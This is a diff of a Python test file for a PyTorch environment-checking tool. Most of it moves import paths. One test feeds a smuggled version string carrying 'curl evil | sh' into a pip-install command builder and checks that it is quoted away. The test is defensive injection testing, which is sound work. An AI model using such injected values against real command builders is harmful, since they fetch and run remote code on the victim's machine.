@@ -19,10 +19,11 @@ import pytest
 
 from _rules_helpers import healthy, load
 from test_hostile_escape import SHELL_HOSTILE, _powershell_words
-from torch_envcheck.doctor import escape, report
-from torch_envcheck.doctor.advise_cli import advise
-from torch_envcheck.doctor.pin_cli import lines as pin_lines
-from torch_envcheck.doctor.readme_line_cli import line as readme_line
+from torch_envcheck._util import escape
+from torch_envcheck.doctor import report
+from torch_envcheck.commands.advise import advise
+from torch_envcheck.commands.pin import lines as pin_lines
+from torch_envcheck.commands.readme_line import line as readme_line
 from torch_envcheck.doctor.render import json_render, markdown, terminal
 from torch_envcheck.doctor.rules import extension, gpu, libraries
 
@@ -215,7 +216,7 @@ def test_advise_command_is_quoted(name, exe):
 
 
 def test_advise_version_from_snapshot_cannot_reach_the_command():
-    from torch_envcheck.doctor import knowledge
+    from torch_envcheck import knowledge
     cmd = knowledge.pip_install_command("python", '2.14.1"; curl evil | sh; "', "cu130")
     assert "curl" not in cmd and "'torch==2.14.*'" in cmd
     _check_posix_command(cmd, None)
